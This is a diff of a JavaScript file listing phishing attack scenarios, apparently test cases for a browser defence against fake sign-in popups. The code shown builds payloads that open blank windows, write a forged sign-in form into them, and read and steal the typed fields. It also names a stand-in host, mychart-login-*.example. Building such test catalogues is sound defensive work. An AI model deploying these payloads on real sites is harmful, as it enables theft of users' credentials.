@@ -30,8 +30,6 @@ const FILL = `const take = () => { listenIn(w); setInterval(() => steal(readFiel
 const AT_RETURN = `if (sessionStorage.been) begun(); else sessionStorage.been = 1; addEventListener("pageshow", (e) => { if (e.persisted) { begun(); document.querySelector("#password").focus(); } });`;
 /** A person who begins to type at the sign-in: on the page before, nobody is asked for anything. */
 const IN = once(`location.pathname === "/in"`);
-const REOPENED =
-  "Its listeners come before ours until there is an answer, which takes some milliseconds: who types at the very moment at which the form comes may lose a character. The person sees our own page at once.";
 const BAD = (id) => `mychart-login-${id}.example`;
 
 export const attacks = [
@@ -158,15 +156,11 @@ export const attacks = [
     "popup-blank-filled",
     "fills an empty window with the sign-in",
     `${FILL} w = open("about:blank"); setTimeout(() => { w.document.title = "${TITLE}"; w.document.body.innerHTML = ${JSON.stringify(SIGN_IN)}; take(); }, 150);`,
-    {
-      residual: Object.fromEntries(["chromium", "firefox"].map((name) => [name, REOPENED])),
-    },
   ),
   opener(
     "popup-blank-written",
     "writes the sign-in into an empty window by document.write",
     `${FILL} w = open(""); setTimeout(() => { w.document.write(${JSON.stringify(`<!doctype html><title>${TITLE}</title>${SIGN_IN}`)}); w.document.close(); take(); }, 150);`,
-    { residual: { chromium: REOPENED, firefox: REOPENED } },
   ),
   opener(
     "popup-from-blob",
